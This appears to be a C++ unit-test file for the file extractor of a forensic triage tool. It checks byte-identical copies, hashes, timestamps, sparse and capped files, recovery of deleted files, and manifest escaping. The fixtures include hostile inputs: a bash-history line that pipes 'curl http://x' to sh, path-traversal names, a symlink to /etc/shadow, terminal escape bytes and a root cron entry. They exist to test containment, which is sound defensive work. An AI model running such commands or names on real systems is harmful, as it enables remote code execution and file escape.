// SPDX-License-Identifier: Apache-2.0
// Extractor against in-memory trees: byte-identical copies with hashes and times, hostile names
// and symlinks contained in the output folder, sparse and capped files, deleted files,
// deterministic manifests.
#include "deadbox/extract/extractor.hpp"

#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <sys/stat.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <set>

#include "deadbox/tree/memory_tree.hpp"
#include "deadbox/util/error.hpp"
#include "deadbox/util/escape.hpp"
#include "support/fixture.hpp"

namespace deadbox::extract {
namespace {

namespace fs = std::filesystem;
using artifacts::Definition;
using artifacts::Matcher;
using artifacts::Registry;

constexpr int64_t kMtime = 1719800000123456789;  // 2024-07-01T02:13:20.123456789Z
constexpr int64_t kAtime = 1719900000000000001;

Registry registry() {
  auto def = [](std::string name, std::vector<std::string> paths) {
    Definition d;
    d.name = std::move(name);
    d.doc = "d";
    d.file = "t.json";
    d.sources.push_back({"FILE", std::move(paths), {}, "/", {}});
    return d;
  };
  std::vector<Definition> defs;
  defs.push_back(def("UnixPasswdFile", {"/etc/passwd"}));
  defs.push_back(def("LinuxCronTabs", {"/etc/cron.d/*", "/var/spool/cron/**"}));
  defs.push_back(def("Data", {"/data/**"}));
  defs.push_back(def("BashShellHistoryFile", {"%%users.homedir%%/.bash_history"}));
  Definition g;
  g.name = "DeadboxDefaultCollection";
  g.doc = "d";
  g.file = "t.json";
  g.sources.push_back({"ARTIFACT_GROUP",
                       {},
                       {"UnixPasswdFile", "LinuxCronTabs", "Data", "BashShellHistoryFile"},
                       "/",
                       {}});
  defs.push_back(g);
  return Registry::from_definitions(std::move(defs));
}

std::string sha256(std::string_view data) {
  unsigned char md[EVP_MAX_MD_SIZE];
  unsigned int len = 0;
  EVP_Digest(data.data(), data.size(), md, &len, EVP_sha256(), nullptr);
  return escape::hex(std::string_view(reinterpret_cast<const char*>(md), len));
}

tree::Stat times() {
  tree::Stat s;
  s.mtime = kMtime;
  s.atime = kAtime;
  s.ctime = kMtime + 5;
  return s;
}

// Every path below root (recursively), for before/after comparisons.
std::set<std::string> listing(const fs::path& root) {
  std::set<std::string> out;
  for (auto it = fs::recursive_directory_iterator(root); it != fs::recursive_directory_iterator();
       ++it)
    out.insert(it->path().string());
  return out;
}

struct Result {
  fs::path dir;
  std::vector<ManifestRow> rows;
  Summary summary;
};

Result extract(tree::FileTree& t, const fs::path& dir, Options opt = {}, std::string volume = "p1",
               std::string prefix = "/") {
  Registry reg = registry();
  Matcher m(reg, {}, {"/root", "/srv/app"});
  auto out = OutputDir::open(dir.string(), false);
  Extractor ex(m, out, opt);
  Diagnostics diag;
  pipeline::VolumeContext ctx{volume, prefix, &t, &diag};
  pipeline::walk_volume(ctx, {}, {&ex});
  ex.write_manifest();
  return {dir, ex.rows(), ex.summary()};
}

const ManifestRow* row_for(const Result& r, std::string_view path) {
  for (const auto& row : r.rows)
    if (row.path == path) return &row;
  return nullptr;
}

bool has_note(const ManifestRow& r, std::string_view prefix) {
  for (const auto& n : r.notes)
    if (n.rfind(prefix, 0) == 0) return true;
  return false;
}

TEST(Extractor, CopiesMatchedFilesByteIdenticalWithHashesAndTimes) {
  tree::MemoryTree t;
  const std::string passwd = "root:x:0:0:root:/root:/bin/bash\n";
  t.add_file("/etc/passwd", passwd, times());
  t.add_file("/etc/hostname", "not selected\n", times());
  t.add_file("/srv/app/.bash_history", "curl http://x | sh\n", times());
  const auto dir = testing::make_temp_dir("extract_copy") / "out";
  const Result r = extract(t, dir);

  ASSERT_EQ(r.rows.size(), 2u);
  const auto* row = row_for(r, "/etc/passwd");
  ASSERT_NE(row, nullptr);
  EXPECT_EQ(row->extracted_as, "p1/etc/passwd");
  // stat before reading: reading the copy would move its atime (relatime).
  struct stat st {};
  ASSERT_EQ(stat((dir / "p1/etc/passwd").c_str(), &st), 0);
  EXPECT_EQ(int64_t{st.st_mtim.tv_sec} * 1'000'000'000 + st.st_mtim.tv_nsec, kMtime);
  EXPECT_EQ(int64_t{st.st_atim.tv_sec} * 1'000'000'000 + st.st_atim.tv_nsec, kAtime);
  EXPECT_EQ(testing::read_text(dir / "p1/etc/passwd"), passwd);
  EXPECT_EQ(row->sha256, sha256(passwd));
  EXPECT_EQ(row->md5.size(), 32u);
  EXPECT_EQ(row->sha1.size(), 40u);
  EXPECT_EQ(row->artifacts, std::vector<std::string>{"UnixPasswdFile"});
  EXPECT_FALSE(fs::exists(dir / "p1/etc/hostname"));
  EXPECT_NE(row_for(r, "/srv/app/.bash_history"), nullptr) << "home outside /home";

  const std::string jsonl = testing::read_text(dir / "manifest.jsonl");
  EXPECT_NE(
      jsonl.find("\"mtime\":\"2024-07-01T02:13:20.123456789Z\",\"mtime_ns\":1719800000123456789"),
      std::string::npos)
      << jsonl;
  EXPECT_EQ(r.summary.files, 2u);
}

TEST(Extractor, UsesMountPointInManifestAndVolumeNameOnDisk) {
  tree::MemoryTree t;
  t.add_file("/passwd", "x", times());  // the fs mounted at /etc, volume from an LV name
  const auto dir = testing::make_temp_dir("extract_mount") / "out";
  const Result r = extract(t, dir, {}, "p2/lvm/vg0/../etc", "/etc");
  ASSERT_EQ(r.rows.size(), 1u);
  EXPECT_EQ(r.rows[0].path, "/etc/passwd");
  EXPECT_EQ(r.rows[0].volume, "p2/lvm/vg0/../etc");
  EXPECT_EQ(r.rows[0].extracted_as, "p2/lvm/vg0/%2E%2E/etc/passwd");
  EXPECT_TRUE(fs::is_regular_file(dir / "p2/lvm/vg0/%2E%2E/etc/passwd"));
}

TEST(Extractor, HostileNamesAndSymlinksStayInsideTheOutputFolder) {
  tree::MemoryTree t;
  t.add_file("/data/../../../../x", "traversal", times());
  t.add_file("/data/a\nb", "newline", times());
  t.add_file("/data/a|b", "pipe", times());
  t.add_file("/data/\x1b[2J\xff", "escape+invalid", times());
  t.add_file("/data/etc/x", "absolute-looking", times());
  t.add_symlink("/data/abs_link", "/etc/shadow", times());
  t.add_symlink("/data/rel_link", "../../../../../tmp/evil", times());
  t.add_file("/data/abs_link_target_probe", "after the link", times());

  // top/sandbox/out: "../../x" resolved naively from out/p1/data would land in top/.
  const auto top = testing::make_temp_dir("extract_hostile");
  fs::create_directories(top / "sandbox" / "sibling");
  const auto dir = top / "sandbox" / "out";
  const auto before = listing(top);
  const Result r = extract(t, dir);

  size_t added = 0;
  for (const auto& p : listing(top)) {
    if (before.count(p) != 0 || p == dir.string()) continue;
    ++added;
    EXPECT_EQ(p.rfind(dir.string() + "/", 0), 0u) << "written outside DIR: " << p;
  }
  EXPECT_GT(added, 8u);
  EXPECT_TRUE(fs::is_empty(top / "sandbox" / "sibling"));
  for (const auto& e : fs::recursive_directory_iterator(dir))
    EXPECT_FALSE(e.is_symlink()) << e.path();

  const auto* trav = row_for(r, "/data/../../../../x");
  ASSERT_NE(trav, nullptr);
  EXPECT_EQ(trav->extracted_as, "p1/data/%2E%2E/%2E%2E/%2E%2E/%2E%2E/x");
  EXPECT_EQ(testing::read_text(dir / trav->extracted_as), "traversal");
  const auto* nl = row_for(r, "/data/a\nb");
  ASSERT_NE(nl, nullptr);
  EXPECT_EQ(nl->extracted_as, "p1/data/a%0Ab");
  ASSERT_NE(row_for(r, "/data/a|b"), nullptr);
  EXPECT_EQ(row_for(r, "/data/a|b")->extracted_as, "p1/data/a|b");
  ASSERT_NE(row_for(r, "/data/\x1b[2J\xff"), nullptr);
  EXPECT_EQ(row_for(r, "/data/\x1b[2J\xff")->extracted_as, "p1/data/%1B[2J%FF");

  const auto* link = row_for(r, "/data/abs_link");
  ASSERT_NE(link, nullptr);
  EXPECT_EQ(link->symlink_target, "/etc/shadow");
  EXPECT_TRUE(link->extracted_as.empty());
  EXPECT_TRUE(has_note(*link, "symlink_not_created"));
  EXPECT_FALSE(fs::exists(fs::symlink_status(dir / "p1/data/abs_link")));

  // The manifest escapes every hostile byte: one line per row, no raw control bytes.
  const std::string jsonl = testing::read_text(dir / "manifest.jsonl");
  EXPECT_EQ(std::count(jsonl.begin(), jsonl.end(), '\n'), static_cast<long>(r.rows.size()));
  EXPECT_EQ(jsonl.find('\x1b'), std::string::npos);
  EXPECT_NE(jsonl.find("\"path\":\"/data/a\\nb\""), std::string::npos);
  EXPECT_NE(jsonl.find("\"path_hex\":"), std::string::npos) << "invalid UTF-8 path keeps its bytes";
  const std::string csv = testing::read_text(dir / "manifest.csv");
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), static_cast<long>(r.rows.size()) + 1);
}

// A tree with one 1 TiB file whose content is a header then zeros, the way TSK reads holes.
class SparseTree final : public tree::FileTree {
 public:
  static constexpr uint64_t kSize = uint64_t{1} << 40;
  static constexpr std::string_view kHead = "HEAD";
  const tree::FsInfo& info() const override { return info_; }
  void walk(const tree::WalkOptions&, const tree::EntrySink& sink, Diagnostics&) override {
    tree::FileEntry dir;
    dir.path = "/data";
    dir.name_type = tree::FileType::kDirectory;
    dir.stat.type = tree::FileType::kDirectory;
    sink(dir);
    tree::FileEntry e;
    e.path = "/data/sparse";
    e.name_type = tree::FileType::kRegular;
    e.stat.type = tree::FileType::kRegular;
    e.depth = 1;  // FileEntry contract: 0 for entries of the root directory
    e.stat.inode = 77;
    e.stat.size = kSize;
    e.stat.mtime = kMtime;
    sink(e);
  }
  std::optional<tree::FileEntry> lookup(std::string_view) override { return std::nullopt; }
  void list_dir(std::string_view, bool, const tree::EntrySink&, Diagnostics&) override {}
  size_t read(uint64_t, uint64_t offset, std::span<std::byte> buf) override {
    if (offset >= kSize) return 0;
    const size_t n = static_cast<size_t>(std::min<uint64_t>(buf.size(), kSize - offset));
    std::memset(buf.data(), 0, n);
    if (offset == 0) std::memcpy(buf.data(), kHead.data(), std::min(n, kHead.size()));
    return n;
  }

 private:
  tree::FsInfo info_;
};

TEST(Extractor, OneTebibyteSparseFileCostsNoDiskAndIsMarked) {
  SparseTree t;
  const auto dir = testing::make_temp_dir("extract_sparse") / "out";
  Options opt;
  opt.max_file_bytes = 64 << 20;
  const Result r = extract(t, dir, opt);
  ASSERT_EQ(r.rows.size(), 1u);
  const auto& row = r.rows[0];
  EXPECT_EQ(row.size, SparseTree::kSize);
  EXPECT_EQ(row.bytes_extracted, uint64_t{64} << 20);
  EXPECT_TRUE(has_note(row, "sparse"));
  EXPECT_TRUE(has_note(row, "truncated_file_cap"));
  struct stat st {};
  ASSERT_EQ(stat((dir / row.extracted_as).c_str(), &st), 0);
  EXPECT_EQ(static_cast<uint64_t>(st.st_size), uint64_t{64} << 20);
  EXPECT_LT(static_cast<uint64_t>(st.st_blocks) * 512, uint64_t{1} << 20) << "holes written";
  std::string expect(64 << 20, '\0');
  std::memcpy(expect.data(), "HEAD", 4);
  EXPECT_EQ(row.sha256, sha256(expect));
  EXPECT_EQ(r.summary.capped, 1u);
}

TEST(Extractor, RunCapTruncatesThenSkips) {
  tree::MemoryTree t;
  t.add_file("/data/a", std::string(3000, 'a'), times());
  t.add_file("/data/b", std::string(3000, 'b'), times());
  t.add_file("/data/c", std::string(3000, 'c'), times());
  const auto dir = testing::make_temp_dir("extract_runcap") / "out";
  Options opt;
  opt.max_total_bytes = 4000;
  const Result r = extract(t, dir, opt);
  ASSERT_EQ(r.rows.size(), 3u);
  EXPECT_EQ(r.rows[0].bytes_extracted, 3000u);
  EXPECT_EQ(r.rows[1].bytes_extracted, 1000u);
  EXPECT_TRUE(has_note(r.rows[1], "truncated_run_cap"));
  EXPECT_TRUE(r.rows[2].extracted_as.empty());
  EXPECT_TRUE(has_note(r.rows[2], "skipped_run_cap"));
  EXPECT_EQ(r.summary.bytes, 4000u);
}

TEST(Extractor, DeletedFilesGoToTheirOwnTreeAndAreMarked) {
  tree::MemoryTree t;
  t.add_file("/etc/cron.d/job", "live\n", times());
  t.add_deleted_file("/etc/cron.d/job2", "* * * * * root /tmp/x\n", times());
  const auto dir = testing::make_temp_dir("extract_deleted") / "out";
  const Result r = extract(t, dir);
  const auto* del = row_for(r, "/etc/cron.d/job2");
  ASSERT_NE(del, nullptr);
  EXPECT_TRUE(del->deleted);
  EXPECT_EQ(del->extracted_as, "deleted/p1/etc/cron.d/job2");
  EXPECT_TRUE(has_note(*del, "recovered_deleted"));
  EXPECT_EQ(testing::read_text(dir / del->extracted_as), "* * * * * root /tmp/x\n");
  EXPECT_EQ(r.summary.deleted, 1u);
}

// XFS frees a deleted inode and zeroes its size: an empty file in deleted/ marked
// "recovered" would claim evidence that is not there.
TEST(Extractor, DeletedEntryWithNothingLeftIsRecordedNotWritten) {
  tree::MemoryTree t;
  t.add_deleted_file("/etc/cron.d/qpzkxjwvmb", "", times());
  const auto dir = testing::make_temp_dir("extract_deleted_gone") / "out";
  const Result r = extract(t, dir);
  const auto* del = row_for(r, "/etc/cron.d/qpzkxjwvmb");
  ASSERT_NE(del, nullptr);
  EXPECT_TRUE(del->deleted);
  EXPECT_TRUE(del->extracted_as.empty());
  EXPECT_TRUE(del->sha256.empty());
  EXPECT_TRUE(has_note(*del, "content_gone"));
  EXPECT_FALSE(has_note(*del, "recovered_deleted"));
  EXPECT_FALSE(fs::exists(dir / "deleted/p1/etc/cron.d/qpzkxjwvmb"));
  EXPECT_EQ(r.summary.deleted, 0u);
}

TEST(Extractor, ManifestIsByteIdenticalAcrossRunsAndSorted) {
  tree::MemoryTree t;
  t.add_file("/etc/passwd", "p", times());
  t.add_file("/data/z", "z", times());
  t.add_file("/data/a", "a", times());
  t.add_deleted_file("/data/a2", "gone?", times());
  const auto base = testing::make_temp_dir("extract_twice");
  extract(t, base / "one");
  const Result two = extract(t, base / "two");
  EXPECT_EQ(testing::read_text(base / "one/manifest.jsonl"),
            testing::read_text(base / "two/manifest.jsonl"));
  EXPECT_EQ(testing::read_text(base / "one/manifest.csv"),
            testing::read_text(base / "two/manifest.csv"));
  std::vector<std::string> paths;
  for (const auto& row : two.rows) paths.push_back(row.path);
  EXPECT_EQ(paths, (std::vector<std::string>{"/data/a", "/data/a2", "/data/z", "/etc/passwd"}));
}

TEST(OutputDir, RefusesANonEmptyFolderUnlessForced) {
  const auto dir = testing::make_temp_dir("extract_exists");
  std::ofstream(dir / "keep") << "x";
  try {
    OutputDir::open(dir.string(), false);
    FAIL() << "non-empty folder accepted";
  } catch (const Error& e) {
    EXPECT_EQ(e.code(), "output_exists");
  }
  EXPECT_NO_THROW(OutputDir::open(dir.string(), true));
}

TEST(OutputDir, ForcedFolderWithPlantedSymlinkIsNotFollowed) {
  const auto parent = testing::make_temp_dir("extract_planted");
  fs::create_directories(parent / "elsewhere");
  fs::create_directories(parent / "out");
  fs::create_directory_symlink(parent / "elsewhere", parent / "out" / "p1");
  tree::MemoryTree t;
  t.add_file("/etc/passwd", "p", times());
  Registry reg = registry();
  Matcher m(reg, {}, {});
  auto out = OutputDir::open((parent / "out").string(), true);
  Extractor ex(m, out);
  Diagnostics diag;
  pipeline::walk_volume({"p1", "/", &t, &diag}, {}, {&ex});
  ASSERT_EQ(ex.rows().size(), 1u);
  EXPECT_TRUE(ex.rows()[0].extracted_as.empty());
  EXPECT_TRUE(has_note(ex.rows()[0], "not_written"));
  EXPECT_TRUE(fs::is_empty(parent / "elsewhere"));
  EXPECT_EQ(ex.summary().failed, 1u);
}

TEST(OutputDir, CollisionsGetADistinctName) {
  const auto dir = testing::make_temp_dir("extract_collide") / "out";
  auto out = OutputDir::open(dir.string(), false);
  auto a = out.create_file({"d"}, "x", "12");
  auto b = out.create_file({"d"}, "x", "13");
  ASSERT_GE(a.fd, 0);
  ASSERT_GE(b.fd, 0);
  close(a.fd);
  close(b.fd);
  EXPECT_EQ(a.relative, "d/x");
  EXPECT_EQ(b.relative, "d/x%2313");
  EXPECT_TRUE(b.renamed);
}

}  // namespace
}  // namespace deadbox::extract
